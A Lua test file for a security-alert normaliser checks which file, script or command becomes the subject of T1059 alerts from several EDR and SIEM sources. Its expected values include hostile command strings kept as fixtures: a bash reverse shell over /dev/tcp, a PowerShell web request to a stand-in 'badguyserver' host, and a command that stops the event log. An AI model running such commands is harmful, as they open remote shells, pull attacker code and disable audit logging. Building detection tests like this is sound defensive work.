-- subject_test.lua: the subject of every T1059 alert, and that it is never the interpreter.

package.path = "tests/lua/alert/?.lua;" .. package.path
local shim = require "shim"
local test = shim.test
local json    = require "json"
local alert   = require "alert"
local attack  = require "attack"
local subject = require "t1059.subject"

local ROOT = "tests/fixtures/alerts/"

---Every hash of every image in an alert that must never become a subject's.
local function forbidden(a)
  local p, out = a.process or {}, {}
  for _, image in ipairs { p, p.parent or {}, p.child or {} } do
    local name = image.name or image.path
    if name and (attack.interpreter(name) or subject.is_system(name)) then
      for _, kind in ipairs { "sha256", "sha1", "md5", "path" } do
        if image[kind] then out[image[kind]:lower()] = true end
      end
    end
  end
  return out
end

local function check(a)
  local s = subject.subject(a)
  local never = forbidden(a)
  for _, what in ipairs { "sha256", "sha1", "path" } do
    assert(not (s[what] and never[s[what]:lower()]), what .. " of a system binary: " .. tostring(s[what]))
  end
  if s.path then assert(not attack.interpreter(s.path), s.path) end
  assert(s.name and s.kind)
  if s.kind == "interpreter" then assert(s.sha256 == nil and s.sha1 == nil and s.path == nil) end
  if s.kind == "command" then assert(s.text and s.path == nil) end
  return s
end

test("subject: of every alert, T1059 or not, never an interpreter's hash or path", function()
  local n = 0
  for line in shim.slurp(ROOT .. "expected.jsonl"):gmatch("[^\n]+") do
    for _, a in ipairs(alert.normalise(shim.document(ROOT .. json.decode(line).file))) do
      check(a)
      n = n + (attack.under(a, "T1059") and 1 or 0)
    end
  end
  assert(n >= 29, "only " .. n .. " alerts of T1059")
end)

local function of(file, index)
  return check(alert.normalise(shim.document(ROOT .. file))[index or 1])
end

local EXPECTED = {
  ["windows/nxlog_sysmon1_wscript_launcher_vbs.json"] = {
    kind = "script", name = "launcher.vbs", path = "C:\\Users\\pgustavo\\Desktop\\launcher.vbs", pid = 2440,
    host = "WORKSTATION5.theshire.local", started = "2020-09-04T20:09:55.035Z",
    image = "C:\\Windows\\System32\\wscript.exe",
  },
  ["windows/nxlog_sysmon1_powershell_enc_huge.json"] = {
    kind = "command", name = "command.ps1", pid = 2316,
    sha256 = "102c8e3e6bd3bd4bd580c235b739e000d0a65d8ade284ca18d7c3382b4e22c7f",
  },
  ["crowdstrike/fdr_processrollup2_encodedcommand.json"] = { kind = "command", text = "helloworld",
                                                             name = "command.ps1" },
  ["crowdstrike/fdr_processrollup2_excel_cmd.json"] = { kind = "interpreter", name = "cmd.exe",
                                                        image = "cmd.exe" },
  ["crowdstrike/fdr_processrollup2_osascript.json"] = { kind = "script", name = "test.osa" },
  ["crowdstrike/detection_flat_pshelldownloadrun_t1086.json"] = { kind = "interpreter",
      name = "powershell.exe" },
  ["trend_vision_one/workbench_v3_mimikatz_t1059_003.json"] = { kind = "command", name = "command.ps1" },
  ["trend_vision_one/workbench_v3_uac_bypass.json"] = {
    kind = "file", path = "c:\\users\\sam\\appdata\\local\\cyzfc.dat",
  },
  ["trend_vision_one/workbench_v3_credential_dump_masked.json"] = { kind = "script",
      name = "T1003_Demo_Script.bat" },
  ["microsoft/mde_alert_low_reputation_t1064.json"] = {
    kind = "file", path = "c:\\temp\\suspicious.dll",
    sha256 = "dc0ade0c95d6db98882bc8fa6707e64353cd6f7767ff48d6a81a6c2aef21c608",
    sha1 = "8563f95b2f8a284fc99da44500cd51a77c1ff36c",
  },
  ["microsoft/graph_v1_suspicious_powershell.json"] = { kind = "interpreter", name = "PowerShell" },
  ["microsoft/sentinel_securityalert_asc_suspicious_powershell.json"] = {
    kind = "command",
    text = "invoke-expression get-process; invoke-webrequest -uri http://badguyserver/pwnme",
  },
  ["sigma/hit_node_credential_scanner.json"] = {
    kind = "child", name = "trufflehog.exe",
    path = "C:\\Users\\xodih\\OneDrive\\Documents\\trufflehog\\trufflehog.exe",
  },
  ["sigma/hit_python_base64_exec.json"] = {
    kind = "command", name = "command.py", text = "import subprocess; subprocess.Popen('calc.exe')",
  },
  ["sigma/hit_powershell_base64_invoke.json"] = {
    kind = "command", text = "Invoke-WmiMethod -Path win32_process -Name create -ArgumentList notepad.exe",
  },
  ["windows/evtx_sysmon1_mshta_vbscript.json"] = { kind = "command", name = "command.hta" },
  ["windows/evtx_4104_stop_service_eventlog.json"] = {
    kind = "command", text = "Stop-Service -Name EventLog -Force", name = "command.ps1",
  },
  ["linux/loganalytics_syslog_sysmon_bash_c.json"] = {
    kind = "command", name = "command.sh", text = "bash -i >& /dev/tcp/192.168.2.6/443 0>&1\n",
  },
  ["cortex_xdr/incidents_page_t1059.json"] = { kind = "interpreter", name = "PowerShell",
                                               host = "example-host" },
  ["sigma/hit_explicit_credential_logon.json"] = {
    kind = "file", path = "C:\\Users\\xodih\\OneDrive\\Desktop\\LegacyHive.exe",
  },
}

for file, expected in pairs(EXPECTED) do
  test("subject: " .. file, function()
    local s = of(file)
    for what, value in pairs(expected) do
      if s[what] ~= value then error(("%s: got %s, expected %s"):format(what, tostring(s[what]),
          tostring(value)), 0) end
    end
  end)
end

test("subject: a hash that is the interpreter's is not taken from the alert's files", function()
  local hash = ("ab"):rep(32)
  local s = check {
    process = { name = "powershell.exe", interpreter = true, sha256 = hash },
    files = { { path = "C:\\x\\odd.bin", sha256 = hash } },
  }
  assert(s.kind == "interpreter" and s.sha256 == nil)
end)

test("subject: a copy of an interpreter in a user's folder is still one", function()
  local s = check { process = { name = "cmd.exe", path = "C:\\Users\\x\\cmd.exe", interpreter = true,
                                sha256 = ("a"):rep(64) } }
  assert(s.kind == "interpreter")
  assert(subject.is_system("C:\\Users\\x\\python3.11.exe") and subject.is_system("/usr/bin/anything"))
  assert(not subject.is_system("C:\\Users\\x\\invoice.exe"))
end)

test("subject: one that was written by hand gets the name and kind that are always there", function()
  rawset(_G, "fail", function(code) error({ code = code }, 0) end)
  local hand = { path = "C:\\x\\odd.vbs" }
  local s = subject.of(hand)
  assert(s.name == "odd.vbs" and s.kind == "file" and hand.name == nil)
  assert(subject.of { text = "whoami" }.kind == "command" and subject.of { sha256 = "ab" }.name == "ab")
  local ok, err = pcall(subject.of, { pid = 4 })
  assert(not ok and err.code == "bad_argument")
  assert(subject.device({ host = "WS" }).hostname == "WS" and subject.device({}, { ip = {} }).ip)
  assert(subject.device({}) == nil)
end)

test("subject: an interpreter under another name is known by the name that it was built with", function()
  local document = shim.document(ROOT .. "sigma/hit_powershell_base64_invoke.json")
  local d = document.Event.EventData
  d.Image = "C:\\Users\\x\\update.exe"
  d.CommandLine = d.CommandLine:gsub("^powershell", "C:\\Users\\x\\update.exe")
  local a = alert.normalise(document)[1]
  assert(attack.under(a, "T1059.001"), "not seen as PowerShell")
  local s = subject.subject(a)
  assert(s.kind ~= "file" and s.sha256 ~= a.process.sha256)
end)

shim.done()
